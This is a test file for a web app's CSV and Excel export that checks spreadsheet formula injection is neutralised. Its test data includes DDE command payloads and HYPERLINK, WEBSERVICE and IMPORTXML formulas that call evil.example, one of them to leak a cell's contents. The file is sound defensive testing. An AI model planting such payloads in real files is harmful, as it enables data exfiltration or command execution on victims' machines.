// What leaves for a spreadsheet is text there, whatever somebody typed.
import { inflateRawSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { csvLine, download, safeCell, workbook } from '../../src/lib/server/table-file.ts';

describe('a cell', () => {
	it.each(['=1+1', '+420 123', '-2', '@SUM(A1)', '\t=1', ' =cmd|calc!A1', '\uFEFF=1', '\uFF1D1', '\r=1', '\n=1'])('%j is text', (typed) =>
		expect(safeCell(typed)).toBe(`'${typed}`)
	);

	it.each(['', 'Ada', 'a=b', 'ada+jobs@example.com', '3 – 4', '’tis'])('%j stays as it is', (typed) => expect(safeCell(typed)).toBe(typed));

	it('that is a number stays one, below zero too', () => expect(safeCell(-2)).toBe(-2));
});

describe('a line', () => {
	it.each<[(string | number)[], string]>([
		[['a', 1, ''], 'a,1,\r\n'],
		[['a,b', 'say "hi"', 'two\nlines', 'semi;colon'], '"a,b","say ""hi""","two\nlines","semi;colon"\r\n'],
		[['=HYPERLINK("http://x","y")'], '"\'=HYPERLINK(""http://x"",""y"")"\r\n']
	])('%j', (cells, line) => expect(csvLine(cells)).toBe(line));
});

it('cells of a Czech reader stand between semicolons', () => expect(csvLine(['a;b', 1, 'c,d'], 'cs')).toBe('"a;b";1;"c,d"\r\n'));

it('a file begins with the mark by which spreadsheets know its encoding, and is sent part by part', async () => {
	const file = download('people.csv', async function* () {
		yield csvLine(['Žofie']);
		yield csvLine(['Ada']);
	});
	expect(file.headers.get('content-disposition')).toBe('attachment; filename="people.csv"');
	const bytes = new Uint8Array(await file.arrayBuffer());
	expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
	expect(new TextDecoder().decode(bytes)).toBe('Žofie\r\nAda\r\n');
});

/** The files in an archive, by its central directory. */
function unzip(zip: Buffer): Record<string, string> {
	const files: Record<string, string> = {};
	const end = zip.lastIndexOf(Buffer.from('PK\u0005\u0006'));
	let at = zip.readUInt32LE(end + 16);
	for (let left = zip.readUInt16LE(end + 10); left > 0; left--) {
		const [size, nameLength, extra, comment] = [
			zip.readUInt32LE(at + 20),
			zip.readUInt16LE(at + 28),
			zip.readUInt16LE(at + 30),
			zip.readUInt16LE(at + 32)
		];
		const local = zip.readUInt32LE(at + 42);
		const from = local + 30 + zip.readUInt16LE(local + 26) + zip.readUInt16LE(local + 28);
		const body = zip.subarray(from, from + size);
		const name = zip.toString('utf8', at + 46, at + 46 + nameLength);
		files[name] = (zip.readUInt16LE(at + 10) === 0 ? body : inflateRawSync(body)).toString();
		at += 46 + nameLength + extra + comment;
	}
	return files;
}

// What would be calculated, or would fetch something, if a spreadsheet took it for a formula.
const formulas = [
	'=1+1',
	'+1',
	'-1',
	'@SUM(A1)',
	'=cmd|"/c calc"!A1',
	'=HYPERLINK("http://evil.example/?"&A2,"Open")',
	'=WEBSERVICE("http://evil.example/")',
	'=IMPORTXML("http://evil.example","//a")',
	'\t=1+1',
	'\r=1+1',
	' =1+1',
	'\uFEFF=1+1',
	'\uFF1D1+1',
	'"=1+1"',
	'a\n=1+1',
	'a,=1+1',
	'a;=1+1',
	'a",=1+1,"',
	"'=1+1",
	'=1+1</t></is></c><c t="str"><f>1+1</f>'
];

describe('a table of formulas', () => {
	it.each([
		['en', ','],
		['cs', ';']
	] as const)('holds text alone when it is read again as CSV (%s)', (reader, separator) => {
		const cells = csvLine(formulas, reader)
			.trimEnd()
			.match(new RegExp(`"(?:[^"]|"")*"|[^${separator}]+`, 'g'))!
			.map((cell) => (cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell));
		expect(cells).toHaveLength(formulas.length);
		for (const cell of cells) expect(cell).not.toMatch(/^[\s\uFEFF]*[=+\-@\uFF1D]/);
	});

	it('holds text alone as a workbook, letter for letter, and numbers as numbers', async () => {
		const file = await workbook('people.xlsx', 'people', [['name', 'total'], ...formulas.map((text, i) => [text, i])]);
		expect(file.headers.get('content-disposition')).toBe('attachment; filename="people.xlsx"');
		const files = unzip(Buffer.from(await file.arrayBuffer()));
		const sheet = files['xl/worksheets/sheet1.xml']!;
		expect(sheet).not.toMatch(/<f[ >]/);
		const types = [...sheet.matchAll(/<c [^>]*?(?:t="(\w+)")?[^>]*>/g)].map(([cell]) => / t="(\w+)"/.exec(cell)?.[1] ?? 'n');
		expect(types.filter((type) => type === 'n')).toHaveLength(formulas.length);
		expect(types.filter((type) => type !== 'n' && type !== 's' && type !== 'inlineStr')).toEqual([]);
		expect(Object.values(files).join('')).toContain('<t>=HYPERLINK("http://evil.example/?"&amp;A2,"Open")</t>');
	});

	it('leaves out what no cell can hold', async () => {
		const file = await workbook('a.xlsx', 'a', [['a\u0000b\u001Bc']]);
		expect(Object.values(unzip(Buffer.from(await file.arrayBuffer()))).join('')).toContain('abc');
	});
});
